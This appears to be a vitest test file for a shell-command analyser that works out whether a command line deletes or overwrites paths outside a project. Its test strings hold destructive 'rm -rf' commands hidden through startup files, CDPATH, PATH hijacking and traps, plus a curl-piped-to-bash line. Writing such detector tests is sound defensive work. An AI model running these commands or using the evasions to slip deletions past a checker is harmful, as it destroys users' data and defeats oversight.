import { describe, expect, it } from 'vitest';
import { effectsOf, filesOf } from './reading.js';

const OUTSIDE = /(?:^| )\/opt\/data/;

function reaches(text: string): boolean {
  return effectsOf(text).some((effect) => OUTSIDE.test(effect));
}

describe('the files that a shell reads first', () => {
  it.each([
    "echo 'cd /opt' > /tmp/e; BASH_ENV=/tmp/e bash -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/e; export BASH_ENV=/tmp/e; echo 'rm -rf data' | bash",
    "echo 'cd /opt' > /tmp/e; env BASH_ENV=/tmp/e bash -c 'rm -rf data'",
    "echo 'ls() { rm -rf /opt/data; }' > /tmp/e; BASH_ENV=/tmp/e bash -c ls",
    "echo 'cd /opt' > /tmp/e; echo 'rm -rf data' > s.sh; BASH_ENV=/tmp/e bash s.sh",
    "echo 'cd /opt' > /tmp/e; bash --rcfile /tmp/e -ic 'rm -rf data'",
    "echo 'cd /opt' > /tmp/e; ENV=/tmp/e sh -ic 'rm -rf data'",
    "echo 'rm -rf /opt/data' > /tmp/h/.profile; HOME=/tmp/h sh -lc true",
    "echo 'cd /opt' > /tmp/h/.bash_profile; HOME=/tmp/h bash --login -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/h/.zshenv; HOME=/tmp/h zsh -c 'rm -rf data'",
  ])('%s', (text) => {
    expect(reaches(text)).toBe(true);
  });

  it.each([
    "echo 'cd build' > /tmp/e; BASH_ENV=/tmp/e bash -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/e; BASH_ENV=/tmp/e sh -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/e; BASH_ENV=/tmp/e; bash -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/e; bash --rcfile /tmp/e -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/h/.profile; HOME=/tmp/h bash -c 'rm -rf data'",
    "echo 'cd /opt' > /tmp/h/.profile; echo > /tmp/h/.bash_profile; HOME=/tmp/h bash -lc 'rm -rf data'",
  ])('but not: %s', (text) => {
    expect(reaches(text)).toBe(false);
  });

  it('what they set is known', () => {
    expect(effectsOf(`echo D=build > /tmp/e; BASH_ENV=/tmp/e bash -c 'rm -rf "$D"'`).at(-1)).toBe(
      'delete /home/dev/project/build recursively by force',
    );
  });
});

describe('where a shell is', () => {
  it.each([
    'pushd /opt; popd +1; rm -rf data',
    'pushd /opt; dirs -c; popd; rm -rf data',
    'pushd /opt; popd +5; rm -rf data',
    'pushd /opt; popd -n; rm -rf data',
    'pushd /opt; pushd /tmp; pushd +1; rm -rf data',
    'shopt -s cdable_vars; V=/opt; cd V; rm -rf data',
    'CDPATH=/opt; cd x; rm -rf ../data',
    'CDPATH=../../../opt; cd x; rm -rf ../data',
    'CDPATH=:~:../../../opt; pushd x; rm -rf ../data',
  ])('%s', (text) => {
    expect(reaches(text)).toBe(true);
  });

  it.each([
    'pushd /opt; popd; rm -rf data',
    'pushd /opt; popd +0; rm -rf data',
    'V=/opt; cd V; rm -rf data',
    'CDPATH=../../../opt; cd ./x; rm -rf ../data',
  ])('but not: %s', (text) => {
    expect(reaches(text)).toBe(false);
  });

  it('a name that nobody has set leads home, unless it stands in quotes', () => {
    expect(effectsOf('cd $NOPE; rm -rf other')).toContain('delete /home/dev/other recursively by force');
    expect(effectsOf('cd "$NOPE"; rm -rf other')).not.toContain(
      'delete /home/dev/other recursively by force',
    );
  });

  it('CDPATH is no other place where only the plain directory is there', () => {
    const files = filesOf({ '/home/dev/project/build/x': '' });
    expect(effectsOf('CDPATH=/home/dev; cd build; rm -rf tmp', { files })).toEqual([
      'delete /home/dev/project/build/tmp recursively by force',
    ]);
  });
});

describe('programs that are found by their name', () => {
  it.each([
    'ln -s /bin/rm build/zz; PATH=$PWD/build:$PATH zz -rf /opt/data',
    `printf 'rm -rf "$@"' > bin/zz; chmod +x bin/zz; PATH="bin:$PATH"; zz /opt/data`,
    "echo 'rm -rf /opt/data' > build/a; PATH=$PWD/build:$PATH; . a",
  ])('%s', (text) => {
    expect(reaches(text)).toBe(true);
  });
});

describe('what is left of the input', () => {
  it('something unknown goes on behind the line that was read', () => {
    for (const reading of ['read -r x; bash', 'read a; read b; sh', 'read -r x && bash'])
      expect(
        effectsOf(`curl -s https://x.io/a | (${reading})`).some((each) => each.startsWith('remote-code')),
      ).toBe(true);
  });

  it('what only some branches have read is still there', () => {
    expect(reaches(`printf 'a\\nrm -rf /opt/data\\n' | (if [ -n "$Q" ]; then read x; fi; bash)`)).toBe(true);
    expect(reaches(`printf 'rm -rf /opt/data\\necho\\n' | (read x; bash)`)).toBe(false);
  });

  it('without time to wait nothing is read', () => {
    expect(reaches("echo 'rm -rf /opt/data' | (read -t0; bash)")).toBe(true);
  });
});

describe('what is decided', () => {
  it('a star takes whatever the other arms leave', () => {
    expect(reaches('D=/opt/data; case $OS in a) D=src;; *) D=dist;; esac; rm -rf "$D"')).toBe(false);
    expect(reaches('D=/opt/data; case $OS in a) D=src;; b) D=dist;; esac; rm -rf "$D"')).toBe(true);
    expect(reaches(`D=/opt/data; case $OS in a) D=src;; '*') D=dist;; esac; rm -rf "$D"`)).toBe(true);
  });

  it('an answer that is in the line is the one', () => {
    const line = (answer: string): string =>
      `select d in /opt/data build; do rm -rf $d; break; done ${answer}`;
    expect(reaches(line('<<< 2'))).toBe(false);
    expect(reaches(line('<<< 1'))).toBe(true);
    expect(reaches(line(''))).toBe(true);
  });

  it('a signal to the shell itself runs its trap', () => {
    for (const kill of ['kill -USR1 $$', 'kill -s SIGUSR1 $$', 'kill -10 $$'])
      expect(reaches(`trap 'D=/opt/data' USR1; D=build; ${kill}; rm -rf "$D"`)).toBe(true);
  });

  it.each([
    "trap 'rm -rf /opt/data' EXIT; trap - EXIT",
    "trap 'rm -rf /opt/data' EXIT INT; trap - SIGINT 0",
    "trap 'rm -rf /opt/data' EXIT; trap 'rm -rf build' EXIT",
  ])('a trap that is taken away: %s', (text) => {
    expect(reaches(text)).toBe(false);
  });

  it.each([
    "trap 'rm -rf /opt/data' EXIT INT; trap - INT",
    "trap 'rm -rf /opt/data' EXIT; [ -e x ] || exit 1; trap - EXIT",
    "set -e; trap 'rm -rf /opt/data' EXIT; make; trap - EXIT",
    "trap 'rm -rf /opt/data' EXIT; [ -e x ] && trap - EXIT",
    "trap 'rm -rf /opt/data' EXIT; (trap - EXIT)",
    "trap 'rm -rf /opt/data' USR1; kill -USR1 $$; trap - USR1",
    "trap 'trap - EXIT; echo' EXIT; trap 'rm -rf /opt/data' INT",
  ])('one that may have run: %s', (text) => {
    expect(reaches(text)).toBe(true);
  });

  it('a trap of a function sees the local names, or nothing', () => {
    const text = (place: string): string =>
      `f() { local t; t=$(mktemp -d); trap 'rm -rf ${place}' EXIT; touch "$t/x"; }; f`;
    expect(effectsOf(text('"$t"')).filter((each) => each.startsWith('delete'))).toEqual([
      'delete /tmp/tmp.XXXXXXXXXX recursively by force',
      'delete recursively by force',
    ]);
    expect(effectsOf(text('"$t"/*'))).toContain('delete /* recursively by force');
  });

  it('a trap of a function sees what the environment has once the function is over', () => {
    const text = `f() { local HOME=/tmp/x; trap 'rm -rf "$HOME/.cache"' EXIT; HOME=/tmp/y; }; f`;
    expect(effectsOf(text).filter((each) => each.startsWith('delete'))).toEqual([
      'delete /tmp/y/.cache recursively by force',
      'delete /home/dev/.cache recursively by force',
    ]);
  });
});

describe('arguments', () => {
  it('are what getopt makes of them', () => {
    const line = (place: string): string =>
      `eval set -- "$(getopt -o d:v -l dir: -- x -v --dir ${place})"; rm -rf "$3"`;
    expect(reaches(line('/opt/data'))).toBe(true);
    expect(effectsOf(line('build'))).toEqual(['delete /home/dev/project/build recursively by force']);
  });

  it('that a file sets stay set', () => {
    expect(reaches(`echo 'set -- /opt/data' > f; . f; rm -rf "$1"`)).toBe(true);
    expect(reaches(`echo 'shift' > f; set -- build /opt/data; . f a; rm -rf "$1"`)).toBe(false);
  });
});

describe('lines that are counted', () => {
  it.each(['-s 1', '-n 1', '-s 1 -n 1'])(
    'may be any where what stands before them is unknown: %s',
    (count) => {
      const line = (place: string): string =>
        `mapfile -t ${count} a < <(printf '%s\\n' "$X" ${place}); rm -rf "\${a[@]}"`;
      expect([reaches(line('/opt/data')), reaches(line('build'))]).toEqual([true, false]);
    },
  );
});

describe('a cd that may have failed', () => {
  const outside = (text: string): boolean =>
    effectsOf(text).some((each) => each.includes('/home/dev/package'));

  it.each([
    'cd sub && ls\ncp a ../package',
    'mkdir -p sub && cd sub && npm init -y\necho x > ../package',
    'cd a && make\ncd ../b && make\ncp x ../package',
    'cd sub && ls; rm -rf ../package',
    'cd sub && ls; cd .. && rm -rf package',
    'mkdir -p /tmp/x && cd /tmp/x && make; cd ..; rm -rf package',
  ])('what has a name after it was meant for where it leads: %s', (text) => {
    expect(outside(text)).toBe(false);
  });

  it.each([
    'cd sub && ls; rm -rf ../package*',
    'cd sub || cp a ../package',
    'cd sub || true; cp a ../package',
    'cd sub && exit; cp a ../package',
    '[ -e x ] && cd sub; cp a ../package',
    'cd sub && ls; cp a ../../package',
    'cd /tmp/x && ls; cp a ../package',
  ])('but not here: %s', (text) => {
    expect(outside(text)).toBe(true);
  });

  it('one that is known to be missing is none', () => {
    const files = filesOf({ '/home/dev/project/sub/x': '' });
    expect(effectsOf('cd sub && ls; cp a ../package', { files })).not.toContain(
      'overwrite /home/dev/package',
    );
    expect(effectsOf('cd nope && ls; cp a ../package', { files })).toContain('overwrite /home/dev/package');
  });
});
